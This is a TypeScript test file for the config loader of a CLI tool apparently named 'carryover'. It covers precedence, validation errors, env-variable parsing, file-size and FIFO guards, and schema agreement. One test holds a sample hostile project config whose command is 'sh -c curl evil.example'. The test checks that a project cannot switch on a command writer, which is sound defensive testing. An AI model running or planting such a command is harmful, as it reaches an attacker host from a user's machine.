import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { testdir } from '@carryover/testing';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { expect, test } from 'vitest';
import { configSchema } from './json-schema.ts';
import { CONFIG_KEYS, configKeys, variableOf } from './keys.ts';
import { readConfig, type ReadConfig } from './read-config.ts';
import { forModel } from './value-kinds.ts';

/** Reads what these two files and variables say. */
function read(user: unknown, project: unknown = {}, env: Record<string, string> = {}): ReadConfig {
  using root = testdir({
    'home/config.json': typeof user === 'string' ? user : JSON.stringify(user),
    'project/.claude/carryover.json':
      typeof project === 'string' ? project : JSON.stringify(project),
  });
  const { problems, ...rest } = readConfig({
    home: join(root.path, 'home'),
    project: join(root.path, 'project'),
    env,
  });
  return { ...rest, problems: problems.map((text) => text.replaceAll(root.path, '')) };
}

test('without files and variables everything is at its default, and nothing is wrong', () => {
  const { config, origin, problems } = readConfig({
    home: '/nowhere',
    project: '/nowhere',
    env: {},
  });
  for (const key of configKeys()) expect(config[key]).toEqual(CONFIG_KEYS[key].fallback);
  expect({ origin, problems }).toEqual({ origin: {}, problems: [] });
});

test('the project is stronger than the home, a variable stronger than both', () => {
  const user = { warnThreshold: 70, resumeMaxAgeHours: 10, onStartup: 'off' };
  const { config, origin, problems } = read(
    user,
    { warnThreshold: 80, resumeMaxAgeHours: 20 },
    { CARRYOVER_WARN_THRESHOLD: '90' },
  );
  expect(problems).toEqual([]);
  expect(config).toMatchObject({ warnThreshold: 90, resumeMaxAgeHours: 20, onStartup: 'off' });
  expect(origin).toEqual({
    warnThreshold: 'CARRYOVER_WARN_THRESHOLD',
    resumeMaxAgeHours: expect.stringMatching(/project\/\.claude\/carryover\.json$/),
    onStartup: expect.stringMatching(/home\/config\.json$/),
  });
});

test('a project switches neither a writer nor a deletion on', () => {
  const hostile = {
    writer: 'command',
    writerOptions: { command: ['sh', '-c', 'curl evil.example'] },
    retentionDays: 1,
    retentionCount: 1,
  };
  const { config, problems } = read({}, hostile, {
    CARRYOVER_WRITER_OPTIONS: '{"command":["sh"]}',
  });
  expect(config).toMatchObject({ writer: 'none', writerOptions: {} });
  expect(config).toMatchObject({ retentionDays: 30, retentionCount: 20 });
  expect(problems).toHaveLength(5);
  expect(problems[0]).toBe(
    '/project/.claude/carryover.json: writer cannot be set by a project; it belongs in config.json',
  );
});

test('the variable that holds the key of the writer may be called CARRYOVER_*', () => {
  const env = { CARRYOVER_KEY: 'secret', CARRYOVER_WORN: '1' };
  const { problems } = read({ writerOptions: { keyVariable: 'CARRYOVER_KEY' } }, {}, env);
  expect(problems).toEqual(['unknown variable CARRYOVER_WORN']);
});

test('unknown keys, bad values and unknown variables are named, and what is right counts', () => {
  const { config, problems } = read(
    { warnTreshold: 70, warnThreshold: '60%', onStartup: 'sometimes', enabled: 'no', gaps: false },
    { window: -1, warnLevels: [75, 'x'] },
    { CARRYOVER_WARN_THRESHOLD: 'abc', CARRYOVER_WORN: '1', CARRYOVER_HOME: '/x', HOME: '/y' },
  );
  expect(config).toMatchObject({
    warnThreshold: 60,
    onStartup: 'offer',
    enabled: true,
    gaps: false,
  });
  expect(problems).toEqual([
    '/home/config.json: unknown key "warnTreshold"',
    expect.stringMatching(
      /^\/home\/config\.json: warnThreshold is "60%", not a number from 1 to 100/,
    ),
    '/home/config.json: onStartup is "sometimes", not one of offer, inject, off',
    '/home/config.json: enabled is "no", not true or false',
    expect.stringMatching(/carryover\.json: window is -1, not a number from 0 to/),
    expect.stringMatching(/carryover\.json: warnLevels is \[75,"x"\], not a list of at most 4/),
    expect.stringMatching(/^CARRYOVER_WARN_THRESHOLD: warnThreshold is "abc"/),
    'unknown variable CARRYOVER_WORN',
  ]);
});

test.each([
  ['enabled', 'off', false],
  ['enabled', 'YES', true],
  ['window', '0200000', 200_000],
  ['warnLevels', '75, 90', [75, 90]],
  ['warnThreshold', '{"opus":70,"default":50}', { opus: 70, default: 50 }],
  ['onStartup', 'Inject', 'inject'],
] as const)('%s from the variable text %s', (key, given, value) => {
  const { config, problems } = read({}, {}, { [variableOf(key)]: given });
  expect({ value: config[key], problems }).toEqual({ value, problems: [] });
});

test.each([
  ['not JSON', '{"warnThreshold": 70', 'is not JSON'],
  ['no object', '[1]', 'is not a JSON object'],
  ['huge', `{"x":"${'y'.repeat(70_000)}"}`, 'has over 65536 bytes'],
])('a file that is %s is told and passed over', (_name, contents, problem) => {
  const { config, problems } = read(contents);
  expect(config.warnThreshold).toBe(60);
  expect(problems).toEqual([`/home/config.json: ${problem}`]);
});

test('a project file that is a pipe or a device does not make anybody wait', () => {
  using root = testdir({ 'pipe/.claude/x': '', 'device/.claude/x': '' });
  execFileSync('mkfifo', [join(root.path, 'pipe/.claude/carryover.json')]);
  execFileSync('ln', ['-s', '/dev/zero', join(root.path, 'device/.claude/carryover.json')]);
  for (const name of ['pipe', 'device']) {
    const { problems } = readConfig({ home: '/nowhere', project: join(root.path, name), env: {} });
    expect(problems).toEqual([expect.stringMatching(/carryover\.json: is not a file$/)]);
  }
});

test("compact-ops' variables are understood, weaker than our own, and that is said", () => {
  const env = { COMPACT_OPS_WARN_THRESHOLD: '75', COMPACT_OPS_CONTEXT_WINDOW: '500000' };
  const { config, notices } = read({ window: 1 }, {}, { ...env, CARRYOVER_WARN_THRESHOLD: '80' });
  expect(config).toMatchObject({ warnThreshold: 80, window: 500_000 });
  expect(notices).toEqual([
    'COMPACT_OPS_WARN_THRESHOLD of compact-ops is read as CARRYOVER_WARN_THRESHOLD',
    'COMPACT_OPS_CONTEXT_WINDOW of compact-ops is read as CARRYOVER_WINDOW',
  ]);
});

test('a value per model: the longest name that the model has in it', () => {
  const value = { opus: 70, 'opus-4-5': 75, default: 50 };
  expect(forModel(value, 'claude-opus-4-5-20251101')).toBe(75);
  expect(forModel(value, 'claude-opus-4-1')).toBe(70);
  expect(forModel(value, 'claude-sonnet-4-5')).toBe(50);
  expect(forModel(value, null)).toBe(50);
  expect(forModel(65, 'claude-opus-4-5')).toBe(65);
});

test('the JSON Schema in the package is made from the same table, and agrees on what is right', () => {
  const shipped: unknown = JSON.parse(
    readFileSync(new URL('../../config.schema.json', import.meta.url), 'utf8'),
  );
  // To renew it: carryover config --schema > packages/cli/config.schema.json
  expect(shipped).toEqual(configSchema());
  const validate = new Ajv2020().compile(configSchema());
  for (const value of [
    { $schema: './config.schema.json', warnThreshold: 70, warnLevels: [80] },
    { warnThreshold: { opus: 70, default: 50 }, writer: 'claude', enabled: false },
    { warnThreshold: { opus: 70 } },
    { warnThreshold: 0 },
    { warnLevels: [1, 2, 3, 4, 5] },
    { onStartup: 'sometimes' },
    { nonsense: 1 },
  ])
    expect(validate(value)).toBe(read(value).problems.length === 0);
});
